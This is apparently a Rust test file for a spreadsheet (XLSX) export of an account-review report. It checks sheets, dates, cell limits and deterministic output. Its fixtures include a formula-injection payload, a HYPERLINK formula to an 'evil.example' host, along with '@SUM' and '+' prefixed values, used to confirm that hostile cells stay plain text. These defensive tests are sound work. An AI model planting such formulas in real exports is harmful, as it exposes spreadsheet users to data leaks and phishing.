//! The workbook read back with calamine, as a spreadsheet program would read it.

use std::io::{Cursor, Read};

use calamine::{Data, DataType, Range, Reader, Xlsx};
use chrono::{DateTime, TimeDelta, TimeZone, Utc};

use super::table::{EXCEL_MAX_ROWS, Limits, excel_serial, fit};
use super::{Options, write_with};
use crate::deliver::sample::report;
use crate::model::Account;
use crate::report::Report;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x\",\"click\")";
/// Every C0 control, the XML-forbidden non-characters, and text that looks like Excel's own
/// `_xHHHH_` escape.
fn hostile_text() -> String {
    let mut s: String = (0u8..0x20).map(char::from).collect();
    s.push_str("\u{7f}\u{fffe}\u{ffff} _x0041_ <b>&amp; \u{1F600}");
    s
}

/// The sample report with a hostile account: a formula for a name, control characters in the
/// email, a detail longer than a cell holds.
fn hostile_report() -> Report {
    let mut r = report();
    let mut a = r.accounts.iter().nth(2).unwrap().clone();
    a.account_id = "u-evil".into();
    a.name = Some(FORMULA.into());
    a.email = Some(hostile_text().into());
    a.role = Some("x".repeat(40_000).into());
    a.last_login_at =
        Some(Utc.with_ymd_and_hms(2026, 1, 2, 3, 4, 5).unwrap() + TimeDelta::microseconds(678_901));
    r.accounts.push(a);
    r.summary.accounts = r.accounts.len();
    r
}

fn render(report: &Report, opts: Options) -> Vec<u8> {
    let mut out = Vec::new();
    write_with(report, &mut out, opts).unwrap();
    out
}

fn open(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
    Xlsx::new(Cursor::new(bytes.to_vec())).unwrap()
}

fn sheet(book: &mut Xlsx<Cursor<Vec<u8>>>, name: &str) -> Range<Data> {
    book.worksheet_range(name).unwrap()
}

fn header(range: &Range<Data>) -> Vec<String> {
    range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect()
}

/// The column named `name` of a table sheet, without its header.
fn column<'a>(range: &'a Range<Data>, name: &str) -> Vec<&'a Data> {
    let h = header(range);
    let i = h
        .iter()
        .position(|x| x == name)
        .unwrap_or_else(|| panic!("{name} in {h:?}"));
    range.rows().skip(1).map(|r| &r[i]).collect()
}

fn sheet_xml(bytes: &[u8], index: usize) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut xml = String::new();
    zip.by_name(&format!("xl/worksheets/sheet{index}.xml"))
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    xml
}

fn utc(d: &Data) -> DateTime<Utc> {
    d.as_datetime()
        .unwrap_or_else(|| panic!("{d:?} is not a date"))
        .and_utc()
}

fn to_ms(t: DateTime<Utc>) -> DateTime<Utc> {
    DateTime::from_timestamp_millis(t.timestamp_millis()).unwrap()
}

#[test]
fn sheets_and_columns_follow_the_report_and_the_csv() {
    let r = report();
    let bytes = render(&r, Options::default());
    let mut book = open(&bytes);
    assert_eq!(
        book.sheet_names(),
        [
            "Summary",
            "Findings",
            "Accounts",
            "Privileged",
            "Coverage",
            "Changes"
        ]
    );
    for (name, csv_header) in [
        ("Findings", &crate::report::csv::FINDINGS_HEADER[..]),
        ("Accounts", &crate::report::csv::ACCOUNTS_HEADER[..]),
    ] {
        let h = header(&sheet(&mut book, name));
        let h: Vec<&str> = h.iter().map(|x| x.trim_end_matches(" (UTC)")).collect();
        assert_eq!(&h[..csv_header.len()], csv_header, "{name}");
    }
    let findings = sheet(&mut book, "Findings");
    assert_eq!(findings.height(), r.findings.len() + 1);
    let ids: Vec<String> = column(&findings, "id")
        .iter()
        .map(|d| d.to_string())
        .collect();
    let want: Vec<&str> = r.findings.iter().map(|f| f.id.as_str()).collect();
    assert_eq!(ids, want);
    let suppressed: Vec<&Data> = column(&findings, "suppressed");
    assert!(suppressed.contains(&&Data::Bool(true)) && suppressed.contains(&&Data::Bool(false)));

    let accounts = sheet(&mut book, "Accounts");
    assert_eq!(accounts.height(), r.accounts.len() + 1);
    for (a, seen) in r
        .accounts
        .iter()
        .zip(column(&accounts, "last_seen_at (UTC)"))
    {
        assert_eq!(Some(utc(seen)), a.last_seen_at.map(to_ms));
    }
    // Unknown 2FA is an empty cell, known is a boolean.
    let mfa = column(&accounts, "mfa");
    assert_eq!(mfa[2], &Data::Bool(false));
    assert_eq!(mfa[3], &Data::Empty);

    let privileged = sheet(&mut book, "Privileged");
    assert_eq!(
        privileged.height(),
        1 + r.accounts.iter().filter(|a| a.privileged).count()
    );
    let twofa: Vec<String> = column(&privileged, "2FA")
        .iter()
        .map(|d| d.to_string())
        .collect();
    assert_eq!(twofa, ["no", "unknown"]);
    let failing = column(&privileged, "failing findings");
    let expect = |id: &str| {
        r.findings
            .iter()
            .filter(|f| {
                f.subject.account_id() == id
                    && f.outcome == crate::model::Outcome::Fail
                    && !f.suppressed
            })
            .count() as f64
    };
    assert_eq!(failing[0].as_f64(), Some(expect("u3")));
    assert_eq!(failing[1].as_f64(), Some(expect("u4")));
    assert!(
        expect("u3") >= 1.0,
        "the sample's owner without 2FA fails a rule"
    );

    let coverage = sheet(&mut book, "Coverage");
    let status: Vec<String> = column(&coverage, "status")
        .iter()
        .map(|d| d.to_string())
        .collect();
    assert_eq!(status, ["ok", "FAILED"]);
    assert_eq!(
        column(&coverage, "error_http_status")[1].as_f64(),
        Some(403.0)
    );
    assert_eq!(
        column(&coverage, "error_message")[1].to_string(),
        "forbidden"
    );

    let changes = sheet(&mut book, "Changes");
    let new = r
        .findings
        .iter()
        .filter(|f| f.change == Some(crate::model::Change::New))
        .count();
    assert_eq!(changes.height(), 1 + new);
}

#[test]
fn summary_says_what_the_run_found_and_rule_by_rule() {
    let r = report();
    let mut book = open(&render(&r, Options::default()));
    let summary = sheet(&mut book, "Summary");
    let rows: Vec<Vec<String>> = summary
        .rows()
        .map(|row| row.iter().map(|c| c.to_string()).collect())
        .collect();
    let value = |label: &str| {
        rows.iter()
            .find(|row| row[0] == label)
            .unwrap_or_else(|| panic!("{label} in {rows:?}"))[1]
            .clone()
    };
    assert_eq!(value("title"), r.title);
    assert_eq!(value("verdict"), r.verdict());
    assert_eq!(value("complete"), "no");
    assert_eq!(value("failing"), r.summary.failing.to_string());
    assert_eq!(value("scopes failed"), "1");
    assert_eq!(value("run id"), r.run.run_id);
    assert_eq!(value("fail on"), "low");
    let as_of = summary.get_value((2, 1)).unwrap();
    assert_eq!(rows[2][0], "as of (UTC)");
    assert_eq!(utc(as_of), r.as_of);
    // The rule table, after a blank row: one row per rule with its criteria in force and
    // what it made of its population.
    let start = rows.iter().position(|row| row[0] == "rule").unwrap();
    assert_eq!(
        rows[start],
        [
            "rule",
            "severity",
            "criteria in force",
            "references",
            "population",
            "evaluated",
            "failing",
            "manual",
            "suppressed",
            "passed"
        ]
    );
    assert_eq!(rows.len() - start - 1, r.run.rules.len());
    for (row, meta) in rows[start + 1..].iter().zip(&r.run.rules) {
        let p = &meta.population;
        assert_eq!(row[0], meta.id.as_str());
        assert_eq!(row[2], meta.checks);
        assert_eq!(row[4], p.of);
        assert_eq!(row[5], p.evaluated.to_string());
        assert_eq!(row[6], r.summary.by_rule.get(meta.id.as_str()).to_string());
        let parts = [&row[6], &row[7], &row[8], &row[9]].map(|c| c.parse::<usize>().unwrap());
        assert_eq!(parts.iter().sum::<usize>(), p.evaluated, "{row:?}");
    }
}

#[test]
fn hostile_text_stays_text_and_reads_back_as_written() {
    let r = hostile_report();
    let bytes = render(&r, Options::default());
    let mut book = open(&bytes);
    let accounts = sheet(&mut book, "Accounts");
    let row = r.accounts.len(); // the hostile account is the last
    let col = |name: &str| header(&accounts).iter().position(|h| h == name).unwrap() as u32;
    assert_eq!(
        accounts.get_value((row as u32, col("name"))),
        Some(&Data::String(FORMULA.into()))
    );
    let formulas = book.worksheet_formula("Accounts").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell is a formula"
    );
    assert!(!sheet_xml(&bytes, 3).contains("<f>"));
    assert_eq!(
        accounts.get_value((row as u32, col("email"))),
        Some(&Data::String(hostile_text()))
    );
    // Longer than a cell holds: cut, with a marker, the rest of the report written.
    let role = accounts
        .get_value((row as u32, col("role")))
        .unwrap()
        .to_string();
    assert!(role.starts_with("xxxx"));
    assert!(
        role.contains("cut to Excel's cell limit"),
        "{}",
        &role[role.len() - 100..]
    );
    assert!(role.encode_utf16().count() <= 32_767);
    // Microseconds: Excel keeps the millisecond.
    let login = accounts
        .get_value((row as u32, col("last_login_at (UTC)")))
        .unwrap();
    assert_eq!(
        utc(login),
        Utc.with_ymd_and_hms(2026, 1, 2, 3, 4, 5).unwrap() + TimeDelta::milliseconds(678)
    );
    // The name on the Privileged sheet too.
    let privileged = sheet(&mut book, "Privileged");
    assert!(column(&privileged, "name").contains(&&Data::String(FORMULA.into())));
}

#[test]
fn every_sheet_has_a_bold_frozen_filtered_header() {
    let r = hostile_report();
    let bytes = render(&r, Options::default());
    let mut book = open(&bytes);
    for (i, name) in book.sheet_names().iter().enumerate() {
        let width = header(&sheet(&mut book, name))
            .iter()
            .filter(|h| !h.is_empty())
            .count() as u32;
        let styles = book.worksheet_style(name).unwrap();
        let bold = |row: u32, col: u32| {
            styles
                .get((row, col))
                .and_then(|s| s.font.as_ref())
                .is_some_and(|f| f.is_bold())
        };
        assert!((0..width).all(|c| bold(0, c)), "{name}: header bold");
        assert!(!bold(1, 0), "{name}: data not bold");
        let xml = sheet_xml(&bytes, i + 1);
        assert!(
            xml.contains(
                r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#
            ),
            "{name}: {xml:.600}"
        );
        assert!(xml.contains("<autoFilter ref=\"A1:"), "{name}");
        assert!(xml.contains("<cols>"), "{name}: widths set");
    }
    // Accounts: the filter covers the header and every account, all 17 columns.
    let xml = sheet_xml(&bytes, 3);
    assert!(xml.contains(&format!(
        "<autoFilter ref=\"A1:Q{}\"/>",
        r.accounts.len() + 1
    )));
    // Widths are capped: the 40,000-character role does not make a 40,000-wide column.
    assert!(!xml.contains("width=\"40"), "{xml:.800}");
}

#[test]
fn sheets_past_excels_rows_end_with_a_note_and_the_summary_says_so() {
    let mut r = report();
    let base = r.accounts.iter().next().unwrap().clone();
    r.accounts = (0..10)
        .map(|i| Account {
            account_id: format!("a{i}").into(),
            ..base.clone()
        })
        .collect();
    let opts = Options {
        limits: Limits { max_rows: 5 },
        ..Options::default()
    };
    let mut book = open(&render(&r, opts));
    let accounts = sheet(&mut book, "Accounts");
    // Header, three accounts, the note: five rows.
    assert_eq!(accounts.height(), 5);
    assert_eq!(column(&accounts, "account_id")[2].to_string(), "a2");
    let note = accounts.get_value((4, 0)).unwrap().to_string();
    assert!(
        note.starts_with("7 more rows are not in this sheet"),
        "{note}"
    );
    assert!(note.contains("accounts.csv"), "{note}");
    let summary = sheet(&mut book, "Summary");
    let line = summary
        .rows()
        .find(|row| row[0] == Data::String("Accounts sheet".into()))
        .expect("the Summary names the sheet that overflowed");
    assert!(
        line[1].to_string().starts_with("3 of 10 rows"),
        "{}",
        line[1]
    );
}

#[test]
fn the_row_limit_leaves_room_for_the_note() {
    let l = Limits {
        max_rows: EXCEL_MAX_ROWS,
    };
    assert_eq!(l.shown(1_048_575), 1_048_575);
    assert_eq!(l.shown(1_048_576), 1_048_574);
    assert_eq!(l.shown(5_000_000), 1_048_574);
}

#[test]
fn streamed_sheets_read_back_the_same_as_sheets_in_memory() {
    let r = hostile_report();
    let in_memory = render(&r, Options::default());
    let streamed = render(
        &r,
        Options {
            stream_from_rows: 0,
            ..Options::default()
        },
    );
    assert_ne!(in_memory, streamed, "streamed sheets use inline strings");
    let (mut a, mut b) = (open(&in_memory), open(&streamed));
    for name in a.sheet_names() {
        assert_eq!(sheet(&mut a, &name), sheet(&mut b, &name), "{name}");
    }
    for i in 1..=a.sheet_names().len() {
        let xml = sheet_xml(&streamed, i);
        assert!(xml.contains("state=\"frozen\"") && xml.contains("<autoFilter"));
    }
}

#[test]
fn the_same_report_renders_to_the_same_bytes() {
    let r = hostile_report();
    assert_eq!(
        render(&r, Options::default()),
        render(&r, Options::default())
    );
    let mut zip = zip::ZipArchive::new(Cursor::new(render(&r, Options::default()))).unwrap();
    let mut core = String::new();
    zip.by_name("docProps/core.xml")
        .unwrap()
        .read_to_string(&mut core)
        .unwrap();
    assert!(
        core.contains("<dcterms:created xsi:type=\"dcterms:W3CDTF\">2026-11-20T06:00:00Z"),
        "{core}"
    );
    assert!(
        core.contains("<dc:title>Acme &quot;Q4&quot; review</dc:title>")
            || core.contains("<dc:title>Acme \"Q4\" review</dc:title>"),
        "{core}"
    );
}

#[test]
fn people_suppressions_and_dates_given_as_text() {
    use crate::review::roster::PersonRow;
    use crate::review::suppressions::{EntryStatus, State};
    let mut r = report();
    r.people = vec![PersonRow {
        email: "u1@acme.example".into(),
        name: "@SUM(1)".into(),
        status: "left".into(),
        end_date: Some("2026-10-31".into()),
        manager: "boss@acme.example".into(),
        accounts: vec!["sentry / acme".into(), "sentry / other".into()],
        findings: 2,
    }];
    r.suppressions = vec![EntryStatus {
        index: 1,
        rule: r.findings[0].rule,
        source_name: Some("sentry".into()),
        scope: None,
        account_id: Some("u2".into()),
        email: None,
        reason: "+accepted".into(),
        owner: "sec@acme.example".into(),
        expires: "not a date".into(),
        state: State::Active,
        matched: 1,
    }];
    let mut book = open(&render(&r, Options::default()));
    assert_eq!(
        book.sheet_names(),
        [
            "Summary",
            "Findings",
            "Accounts",
            "Privileged",
            "Coverage",
            "People",
            "Suppressions",
            "Changes"
        ]
    );
    let people = sheet(&mut book, "People");
    assert_eq!(column(&people, "name")[0], &Data::String("@SUM(1)".into()));
    assert_eq!(
        utc(column(&people, "end_date")[0]),
        Utc.with_ymd_and_hms(2026, 10, 31, 0, 0, 0).unwrap()
    );
    assert_eq!(
        column(&people, "accounts")[0].to_string(),
        "sentry / acme; sentry / other"
    );
    let suppressions = sheet(&mut book, "Suppressions");
    assert_eq!(
        column(&suppressions, "reason")[0],
        &Data::String("+accepted".into())
    );
    // An expiry that is no date stays the text it was.
    assert_eq!(
        column(&suppressions, "expires")[0],
        &Data::String("not a date".into())
    );
    assert_eq!(column(&suppressions, "state")[0].to_string(), "active");
    let changes = sheet(&mut book, "Changes");
    let first_seen = column(&changes, "first_seen (UTC)");
    assert!(
        first_seen
            .iter()
            .all(|d| d.is_empty() || d.as_datetime().is_some())
    );
}

#[test]
fn excel_dates_count_days_from_1899_12_30() {
    let t = |y, mo, d, h, mi, s| Utc.with_ymd_and_hms(y, mo, d, h, mi, s).unwrap();
    assert_eq!(excel_serial(&t(1970, 1, 1, 0, 0, 0)), Some(25_569.0));
    assert_eq!(excel_serial(&t(1900, 3, 1, 0, 0, 0)), Some(61.0));
    assert_eq!(excel_serial(&t(2026, 11, 20, 18, 0, 0)), Some(46_346.75));
    assert_eq!(excel_serial(&t(1900, 2, 28, 23, 59, 59)), None);
    assert!(excel_serial(&t(9999, 12, 31, 23, 59, 59)).is_some());
}

#[test]
fn text_is_cut_to_the_cell_limit_at_a_character_boundary() {
    assert_eq!(fit("short"), "short");
    let exact = "a".repeat(32_767);
    assert_eq!(fit(&exact), exact.as_str());
    // Each emoji is two UTF-16 units: 20,000 of them pass the limit though 20,000 characters do not.
    let emoji = "\u{1F600}".repeat(20_000);
    let cut = fit(&emoji);
    assert!(cut.encode_utf16().count() <= 32_767);
    assert!(cut.starts_with("\u{1F600}\u{1F600}"));
    assert!(
        cut.ends_with("; 20000 in all]"),
        "{}",
        &cut[cut.len() - 80..]
    );
}

/// The date format is one calamine sees as a date: a check that the test's reading is sound.
#[test]
fn a_blank_time_is_an_empty_cell() {
    let mut r = report();
    r.accounts.iter_mut().next().unwrap().last_seen_at = None;
    let mut book = open(&render(&r, Options::default()));
    let accounts = sheet(&mut book, "Accounts");
    assert_eq!(column(&accounts, "last_seen_at (UTC)")[0], &Data::Empty);
    assert!(column(&accounts, "created_at (UTC)")[0].is_datetime());
}

/// An output that takes `left` bytes and then fails, as a full disk does.
struct FailingOutput {
    left: usize,
}

impl std::io::Write for FailingOutput {
    fn write(&mut self, data: &[u8]) -> std::io::Result<usize> {
        if self.left == 0 {
            return Err(std::io::Error::other("no space left on device"));
        }
        let n = data.len().min(self.left);
        self.left -= n;
        Ok(n)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[test]
fn an_output_that_fails_is_an_error_that_names_the_file() {
    let r = hostile_report();
    // Small chunks, so that the zip comes in many; streamed sheets too.
    let opts = Options {
        stream_from_rows: 0,
        chunk: 1024,
        ..Options::default()
    };
    let whole = render(&r, opts);
    assert!(whole.len() > 8 * 1024, "{} bytes", whole.len());
    assert_eq!(whole, render(&r, Options { chunk: 1, ..opts }));
    for left in [0, 1, 1024, 5000, whole.len() - 1] {
        let e = write_with(&r, &mut FailingOutput { left }, opts).unwrap_err();
        assert_eq!(
            e, "cannot write report.xlsx: writing: no space left on device",
            "after {left} bytes"
        );
    }
    let mut exact = FailingOutput { left: whole.len() };
    write_with(&r, &mut exact, opts).unwrap();
}
